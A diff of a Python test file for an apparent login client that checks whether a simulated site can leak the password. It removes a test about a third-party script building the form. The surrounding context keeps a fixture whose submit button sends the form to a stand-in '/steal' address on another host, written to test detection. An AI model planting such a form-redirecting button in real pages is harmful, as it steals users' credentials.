@@ -132,19 +132,6 @@ def test_a_script_cannot_carry_the_password_elsewhere(odd_site: OddSite, session
     assert odd_site.asked_elsewhere() == []
 
 
-def test_scripts_of_another_site_may_build_the_form(odd_site: OddSite, session_to: Make) -> None:
-    odd_site.answers["GET /login"] = Canned(
-        f'<body><script src="{odd_site.elsewhere}/lib.js"></script></body>'
-    )
-    odd_site.answers["GET /lib.js"] = Canned(
-        f"document.body.insertAdjacentHTML('beforeend', `{form().text}`)",
-        headers={"Content-Type": "text/javascript"},
-    )
-    odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
-    assert odd(odd_site, session_to).code is FailureCode.WRONG_PASSWORD
-    assert odd_site.asked_elsewhere() == ["GET /lib.js"]
-
-
 def test_a_button_that_sends_the_form_elsewhere_is_noticed(odd_site: OddSite, session_to: Make) -> None:
     odd_site.answers["GET /login"] = form(
         extra=f'<button type="submit" formaction="{odd_site.elsewhere}/steal">Sign in</button>'
